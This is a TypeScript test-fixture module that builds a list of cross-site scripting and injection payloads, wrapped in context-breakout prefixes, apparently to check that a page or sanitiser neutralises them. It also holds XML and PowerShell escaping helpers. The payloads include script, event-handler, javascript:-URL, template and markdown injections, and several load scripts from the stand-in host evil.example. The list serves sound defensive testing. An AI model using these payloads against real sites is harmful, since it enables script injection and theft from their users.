/**
 * Texts that would run a script, ask another host or break out of where they stand, if a page let them. Each one that
 * runs sets `window.hit`; each one that loads asks evil.example.
 */
const RUN = 'window.hit=1';
const URL = 'https://evil.example/x';

const BASES: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${URL}.js"></script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src="${URL}.png">`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="${URL}.swf"></object>`,
  `<embed src="${URL}">`,
  `<link rel="stylesheet" href="${URL}.css">`,
  `<style>@import '${URL}.css';</style>`,
  `<style>body{background:url(${URL}.png)}</style>`,
  `<meta http-equiv="refresh" content="0;url=${URL}">`,
  `<base href="https://evil.example/">`,
  `<form action="${URL}"><button autofocus onfocus=${RUN}>x</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<math><mtext></mtext><script>${RUN}</script></math>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><img src=x onerror=${RUN}></noscript>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `[x](javascript:${RUN})`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `![x](${URL}.png)`,
  `![x](x "onerror=${RUN}")`,
  `<javascript:${RUN}>`,
  `[x]: ${URL}.png\n\n![x]`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\u2028<script>${RUN}</script>\u2029`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
];

/** Ways out of the places where a page puts a text. */
const BREAKOUTS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"${text}`,
  (text) => `'>${text}`,
  (text) => `">${text}<"`,
  (text) => `</script>${text}`,
  (text) => `--></title></textarea></style>${text}<!--`,
  (text) => `]]>${text}<![CDATA[`,
];

export const HOSTILE_TEXTS: readonly string[] = BASES.flatMap((base) => BREAKOUTS.map((out) => out(base)));

/** As a value of XML. */
export function xmlText(text: string): string {
  return text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;');
}

/** As a string of PowerShell. */
export function powerShellText(text: string): string {
  return `'${text.replaceAll("'", "''")}'`;
}
